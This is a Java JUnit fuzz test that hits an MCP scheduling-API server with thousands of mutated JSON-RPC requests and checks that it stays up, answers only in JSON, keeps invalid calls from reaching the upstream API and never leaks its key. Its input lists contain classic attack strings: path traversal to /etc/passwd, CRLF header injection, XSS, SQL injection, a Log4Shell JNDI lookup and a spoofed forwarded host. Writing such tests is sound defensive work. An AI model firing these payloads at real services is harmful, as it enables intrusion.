package io.calcommcp.server.hostile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ContainerNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.calcommcp.server.config.RequestLimits;
import io.calcommcp.server.config.ServerConfig;
import io.calcommcp.server.testing.FakeHttpServer;
import io.calcommcp.server.testing.FakeHttpServer.Reply;
import io.calcommcp.server.testing.RawHttp;
import io.calcommcp.server.testing.RecordedRequest;
import io.calcommcp.server.testing.RunningServer;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;

/**
 * A deterministic fuzzer against the running server: a fixed seed, a few thousand mutated
 * JSON-RPC messages (wrong types, missing fields, huge numbers, unicode and control characters,
 * duplicate keys, deep nesting, unknown tools and arguments, path traversal in ids, header
 * injection) sent as raw HTTP, with a recording fake API behind it. Every answer must be a JSON-RPC
 * response or a JSON HTTP error (or the empty 202 of a notification), never a 5xx, a stack trace or
 * HTML; the server must stay up; an invalid call must send nothing upstream; and what valid calls
 * send must stay inside their route.
 */
class McpFuzzTest {

    private static final long SEED = 0x5EED_2026L;
    private static final int CASES = 3000;
    private static final ObjectMapper JSON = new ObjectMapper();

    private static final String[] BASES = {
        "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":{\"protocolVersion\":\"2025-06-18\","
                + "\"capabilities\":{},\"clientInfo\":{\"name\":\"fuzz\",\"version\":\"1\"}}}",
        "{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/list\",\"params\":{}}",
        "{\"jsonrpc\":\"2.0\",\"id\":\"p\",\"method\":\"ping\"}",
        "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}",
        "{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/call\",\"params\":{\"name\":\"list_all_tempo_bookings\","
                + "\"arguments\":{\"limit\":5}}}",
        "{\"jsonrpc\":\"2.0\",\"id\":4,\"method\":\"tools/call\",\"params\":{\"name\":"
                + "\"get_single_tempo_booking_by_id\",\"arguments\":{\"bookingUid\":\"abc123\"}}}",
        "{\"jsonrpc\":\"2.0\",\"id\":5,\"method\":\"tools/call\",\"params\":{\"name\":"
                + "\"get_single_tempo_event_type_by_id\",\"arguments\":{\"eventTypeId\":12}}}",
        "{\"jsonrpc\":\"2.0\",\"id\":6,\"method\":\"tools/call\",\"params\":{\"name\":\"create_a_tempo_booking\","
                + "\"arguments\":{\"start\":\"2026-12-10T10:00:00Z\",\"eventTypeId\":1,\"attendee\":{\"name\":\"Ann\","
                + "\"email\":\"ann@example.com\",\"timeZone\":\"Europe/Berlin\"}}}}",
        "{\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"tools/call\",\"params\":{\"name\":\"list_all_tempo_bookings\","
                + "\"arguments\":{\"status\":[\"upcoming\"],\"attendeeEmail\":\"ann@example.com\"}}}",
    };

    private static final String[] STRINGS = {
        "",
        "a",
        "\u00e9\u00e8\u4e2d\u6587",
        "\ud83d\ude00\ud83d\udc4d",
        "\u202eevil\u202c",
        "\u200b\u200d\ufeff",
        "\u0000",
        "\u0007\u001b[31m",
        "\r\nX-Injected: yes",
        "value\r\n\r\nGET /admin HTTP/1.1",
        "../../../../etc/passwd",
        "..%2F..%2Fadmin",
        "..\\..\\windows",
        "/v2/me",
        "%00",
        "?x=1&y=2#frag",
        "<script>alert(1)</script>",
        "' OR 1=1 --",
        "${jndi:ldap://example.invalid/a}",
        "tools/call",
        "x".repeat(5000),
    };

    private static final Object[] NUMBERS = {
        0, -1, 1, Integer.MAX_VALUE, Long.MIN_VALUE, 3.14, -0.0, 1e308, "123456789012345678901234567890", "1e400"
    };

    private static final String[] NAMES = {
        "jsonrpc",
        "id",
        "method",
        "params",
        "name",
        "arguments",
        "_meta",
        "cursor",
        "limit",
        "bookingUid",
        "eventTypeId",
        "start",
        "attendee",
        "Authorization",
        "tempo-api-version",
        "__proto__",
        "constructor"
    };

    private static final String[] TOOL_NAMES = {
        "list_all_tempo_bookings",
        "get_single_tempo_booking_by_id",
        "no_such_tool",
        "../../admin",
        "LIST_ALL_TEMPO_BOOKINGS",
        "list_all_tempo_bookings\u0000",
        "",
        "search_tempo_tools",
        "call_tempo_tool"
    };

    private enum Kind {
        JSON_RPC_ERROR,
        HTTP_ERROR,
        INVALID_ARGUMENTS,
        TOOL_RESULT,
        RESULT,
        ACCEPTED
    }

    @Test
    void mutatedMessages_getJsonAnswers_neverA5xx_andInvalidOnesSendNothingUpstream() throws Exception {
        Random random = new Random(SEED);
        // The SDK logs through slf4j to whatever System.err is when it logs: catch any line it writes.
        PrintStream originalErr = System.err;
        ByteArrayOutputStream stderr = new ByteArrayOutputStream();
        System.setErr(new PrintStream(stderr, true, StandardCharsets.UTF_8));
        try (FakeHttpServer upstream =
                        new FakeHttpServer(request -> Reply.json(200, "{\"status\":\"success\",\"data\":[]}"));
                RunningServer server =
                        new RunningServer(ServerConfig.local("TEMPO_API_KEY", RunningServer.API_KEY, upstream.baseUrl())
                                .withLimits(RequestLimits.defaults().withRequestTimeout(Duration.ofSeconds(2))))) {
            Map<Kind, Integer> kinds = new TreeMap<>();
            int upstreamFromInvalid = 0;
            int upstreamFromValid = 0;
            List<String> problems = new ArrayList<>();
            for (int i = 0; i < CASES && problems.size() < 20; i++) {
                byte[] request = nextCase(random, server.port());
                int before = upstream.requests().size();
                RawHttp.Answer answer = RawHttp.send(server.port(), request);
                List<RecordedRequest> sent =
                        upstream.requests().subList(before, upstream.requests().size());
                String what = "case " + i + " (" + preview(request) + ") -> HTTP " + answer.status() + " "
                        + preview(answer.body().getBytes(StandardCharsets.UTF_8));
                Kind kind;
                try {
                    kind = classify(what, answer);
                } catch (AssertionError e) {
                    problems.add(e.getMessage());
                    continue;
                }
                kinds.merge(kind, 1, Integer::sum);
                if (kind == Kind.TOOL_RESULT) {
                    upstreamFromValid += sent.size();
                    for (RecordedRequest r : sent) {
                        checkStaysInRoute(what, r, problems);
                    }
                } else if (!sent.isEmpty()) {
                    upstreamFromInvalid += sent.size();
                    problems.add(what + ": sent " + sent.size() + " request(s) upstream");
                }
                if (answer.body().contains(RunningServer.API_KEY)) {
                    problems.add(what + ": the API key is in the answer");
                }
            }
            int invalid = kinds.getOrDefault(Kind.JSON_RPC_ERROR, 0)
                    + kinds.getOrDefault(Kind.HTTP_ERROR, 0)
                    + kinds.getOrDefault(Kind.INVALID_ARGUMENTS, 0);
            System.out.println("fuzz: " + CASES + " cases sent (seed " + Long.toHexString(SEED) + "): " + kinds
                    + "; upstream requests caused by the " + invalid + " invalid cases: " + upstreamFromInvalid
                    + "; by valid tool calls: " + upstreamFromValid);
            assertTrue(problems.isEmpty(), String.join("\n", problems));
            assertEquals(0, upstreamFromInvalid);
            assertTrue(invalid > CASES / 2, "the fuzzer should mostly send invalid messages: " + kinds);
            assertTrue(kinds.getOrDefault(Kind.TOOL_RESULT, 0) > 50, "and some valid tool calls: " + kinds);

            assertFalse(server.client().listTools().tools().isEmpty(), "the server must still serve");
            List<String> notJson =
                    server.log().lines().filter(l -> !l.startsWith("{")).toList();
            assertEquals(List.of(), notJson, "every log line must be one of ours");
            assertFalse(server.log().contains(RunningServer.API_KEY), "the API key is in the log");
            assertFalse(server.log().contains("X-Injected"), "request content is in the log");
        } finally {
            System.setErr(originalErr);
        }
        assertEquals("", stderr.toString(StandardCharsets.UTF_8), "the SDK or a library logged on its own");
    }

    private static Kind classify(String what, RawHttp.Answer answer) {
        if (answer.status() >= 500) {
            throw new AssertionError(what + ": a 5xx");
        }
        if (answer.status() == 202) {
            if (!answer.body().isEmpty()) {
                throw new AssertionError(what + ": a 202 with a body");
            }
            return Kind.ACCEPTED;
        }
        JsonNode body = HostileTraffic.assertSafeJson(what, answer.body());
        if (body.has("jsonrpc")) {
            if (!body.path("jsonrpc").asText().equals("2.0") || !body.has("id")) {
                throw new AssertionError(what + ": not a JSON-RPC 2.0 response");
            }
            if (body.has("error")) {
                if (!body.path("error").path("code").isInt()
                        || body.path("error").path("message").asText().isBlank()) {
                    throw new AssertionError(what + ": an error without code and message");
                }
                return Kind.JSON_RPC_ERROR;
            }
            JsonNode result = body.path("result");
            if (!result.isObject()) {
                throw new AssertionError(what + ": neither result nor error");
            }
            if (!result.has("content")) {
                return Kind.RESULT;
            }
            String type =
                    result.path("structuredContent").path("error").path("type").asText();
            return result.path("isError").asBoolean() && type.equals("invalid_arguments")
                    ? Kind.INVALID_ARGUMENTS
                    : Kind.TOOL_RESULT;
        }
        if (!body.path("error").isTextual() || body.path("message").asText().isBlank() || answer.status() < 400) {
            throw new AssertionError(what + ": neither JSON-RPC nor a JSON HTTP error");
        }
        return Kind.HTTP_ERROR;
    }

    /** What a valid call sends stays on its route: no traversal out of the path, no injected header. */
    private static void checkStaysInRoute(String what, RecordedRequest r, List<String> problems) {
        String path = r.path();
        if (!path.startsWith("/v1/bookings") && !path.startsWith("/v1/event-types")) {
            problems.add(what + ": sent to " + path);
        }
        for (String segment : path.split("/")) {
            if (segment.equals("..") || segment.equals(".")) {
                problems.add(what + ": a dot segment in " + path);
            }
        }
        r.headers().forEach((name, values) -> {
            if (name.contains("injected") || values.stream().anyMatch(v -> v.contains("\r") || v.contains("\n"))) {
                problems.add(what + ": an injected header " + name);
            }
        });
    }

    // --- the generator --------------------------------------------------------------------------

    private static byte[] nextCase(Random random, int port) throws Exception {
        String body = BASES[random.nextInt(BASES.length)];
        JsonNode tree = JSON.readTree(body);
        int mutations = random.nextInt(4);
        for (int m = 0; m < mutations; m++) {
            tree = mutateTree(random, tree);
        }
        byte[] bytes = JSON.writeValueAsBytes(tree);
        if (random.nextInt(6) == 0) {
            bytes = mutateText(random, new String(bytes, StandardCharsets.UTF_8));
        }
        return httpRequest(random, port, bytes);
    }

    private static JsonNode mutateTree(Random random, JsonNode tree) {
        List<ContainerNode<?>> containers = new ArrayList<>();
        collect(tree, containers, 0);
        ContainerNode<?> target = containers.get(random.nextInt(containers.size()));
        switch (random.nextInt(7)) {
            case 0 -> set(random, target, randomValue(random, 0));
            case 1 -> {
                if (target instanceof ObjectNode object && object.size() > 0) {
                    List<String> names = new ArrayList<>();
                    object.fieldNames().forEachRemaining(names::add);
                    object.remove(names.get(random.nextInt(names.size())));
                }
            }
            case 2 -> {
                if (target instanceof ObjectNode object) {
                    object.set(
                            random.nextBoolean() ? NAMES[random.nextInt(NAMES.length)] : randomString(random),
                            randomValue(random, 0));
                }
            }
            case 3 -> {
                JsonNode params = tree.path("params");
                if (params instanceof ObjectNode p) {
                    p.put("name", TOOL_NAMES[random.nextInt(TOOL_NAMES.length)]);
                }
            }
            case 4 -> {
                JsonNode arguments = tree.path("params").path("arguments");
                if (arguments instanceof ObjectNode a) {
                    a.set("deep", deep(random.nextInt(90) + 1));
                }
            }
            case 5 -> {
                if (tree instanceof ObjectNode object) {
                    Object number = NUMBERS[random.nextInt(NUMBERS.length)];
                    object.set(
                            "id",
                            number instanceof String text
                                    ? JSON.getNodeFactory().numberNode(new java.math.BigDecimal(text))
                                    : JSON.valueToTree(number));
                }
            }
            default -> {
                JsonNode arguments = tree.path("params").path("arguments");
                if (arguments instanceof ObjectNode a && a.size() > 0) {
                    List<String> names = new ArrayList<>();
                    a.fieldNames().forEachRemaining(names::add);
                    a.put(names.get(random.nextInt(names.size())), STRINGS[random.nextInt(STRINGS.length)]);
                }
            }
        }
        return tree;
    }

    private static void collect(JsonNode node, List<ContainerNode<?>> out, int depth) {
        if (node instanceof ContainerNode<?> container && depth < 6) {
            out.add(container);
            node.elements().forEachRemaining(child -> collect(child, out, depth + 1));
        }
    }

    private static void set(Random random, ContainerNode<?> target, JsonNode value) {
        if (target instanceof ObjectNode object && object.size() > 0) {
            List<String> names = new ArrayList<>();
            object.fieldNames().forEachRemaining(names::add);
            object.set(names.get(random.nextInt(names.size())), value);
        } else if (target instanceof ArrayNode array && array.size() > 0) {
            array.set(random.nextInt(array.size()), value);
        }
    }

    private static JsonNode randomValue(Random random, int depth) {
        return switch (random.nextInt(depth > 2 ? 5 : 7)) {
            case 0 -> JSON.getNodeFactory().nullNode();
            case 1 -> JSON.getNodeFactory().booleanNode(random.nextBoolean());
            case 2 -> {
                Object number = NUMBERS[random.nextInt(NUMBERS.length)];
                yield number instanceof String text
                        ? JSON.getNodeFactory().numberNode(new java.math.BigDecimal(text))
                        : JSON.valueToTree(number);
            }
            case 3, 4 -> JSON.getNodeFactory().textNode(STRINGS[random.nextInt(STRINGS.length)]);
            case 5 -> {
                ArrayNode array = JSON.createArrayNode();
                for (int i = random.nextInt(3); i > 0; i--) {
                    array.add(randomValue(random, depth + 1));
                }
                yield array;
            }
            default -> {
                ObjectNode object = JSON.createObjectNode();
                for (int i = random.nextInt(3); i > 0; i--) {
                    object.set(NAMES[random.nextInt(NAMES.length)], randomValue(random, depth + 1));
                }
                yield object;
            }
        };
    }

    private static String randomString(Random random) {
        StringBuilder text = new StringBuilder();
        for (int i = random.nextInt(12); i >= 0; i--) {
            text.append((char) (random.nextBoolean() ? 32 + random.nextInt(95) : random.nextInt(0x3000)));
        }
        return text.toString();
    }

    private static JsonNode deep(int levels) {
        JsonNode node = JSON.getNodeFactory().numberNode(1);
        for (int i = 0; i < levels; i++) {
            node = i % 2 == 0
                    ? JSON.createObjectNode().set("a", node)
                    : JSON.createArrayNode().add(node);
        }
        return node;
    }

    /** Damage the text: cut it, flip a byte, duplicate a key, or put a raw control character in. */
    private static byte[] mutateText(Random random, String text) {
        return switch (random.nextInt(5)) {
            case 0 ->
                text.substring(0, random.nextInt(Math.max(1, text.length()))).getBytes(StandardCharsets.UTF_8);
            case 1 -> {
                byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
                bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
                yield bytes;
            }
            case 2 ->
                text.replaceFirst("\"jsonrpc\":\"2.0\"", "\"jsonrpc\":\"2.0\",\"jsonrpc\":\"1.0\"")
                        .getBytes(StandardCharsets.UTF_8);
            case 3 -> {
                int at = text.indexOf("\":\"");
                yield (at < 0 ? text : text.substring(0, at + 3) + (char) random.nextInt(32) + text.substring(at + 3))
                        .getBytes(StandardCharsets.UTF_8);
            }
            default -> ("[" + text + "," + text + "]").getBytes(StandardCharsets.UTF_8);
        };
    }

    /** Mostly a plain POST to /mcp; sometimes another path, method, content type or odd headers. */
    private static byte[] httpRequest(Random random, int port, byte[] body) throws Exception {
        String method = "POST";
        String path = "/mcp";
        String contentType = "application/json";
        StringBuilder extra = new StringBuilder();
        switch (random.nextInt(16)) {
            case 0 ->
                path = new String[] {"/mcp/", "/mcp?x=1", "/MCP", "/mcp/abc", "/mcp/" + "t".repeat(43), "/"}
                        [random.nextInt(6)];
            case 1 -> method = new String[] {"PUT", "PATCH", "GET", "DELETE"}[random.nextInt(4)];
            case 2 ->
                contentType =
                        new String[] {"text/plain", "application/json; charset=latin1", "", "*/*"}[random.nextInt(4)];
            case 3 -> extra.append("X-Injected: yes\r\nX-Forwarded-Host: evil.example\r\n");
            case 4 ->
                extra.append("Authorization: Bearer ").append("\u00ff\u00fe").append("\r\n");
            case 5 -> extra.append("Mcp-Session-Id: ../../etc\r\nMcp-Protocol-Version: 1999-01-01\r\n");
            case 6 -> extra.append("Accept: text/html\r\n");
            default -> {}
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        StringBuilder head = new StringBuilder(method + " " + path + " HTTP/1.1\r\nHost: 127.0.0.1:" + port + "\r\n");
        if (!contentType.isEmpty()) {
            head.append("Content-Type: ").append(contentType).append("\r\n");
        }
        if (extra.indexOf("Accept:") < 0) {
            head.append("Accept: application/json, text/event-stream\r\n");
        }
        head.append(extra);
        head.append("Content-Length: ").append(body.length).append("\r\nConnection: close\r\n\r\n");
        out.write(head.toString().getBytes(StandardCharsets.ISO_8859_1));
        out.write(body);
        return out.toByteArray();
    }

    private static String preview(byte[] bytes) {
        String text = new String(bytes, StandardCharsets.UTF_8).replace("\r\n", "\\r\\n");
        int bodyAt = text.indexOf("\\r\\n\\r\\n");
        String shown = bodyAt >= 0 ? text.substring(0, text.indexOf(' ', 0) + 1) + text.substring(bodyAt + 8) : text;
        return shown.length() > 300 ? shown.substring(0, 300) + "..." : shown;
    }
}
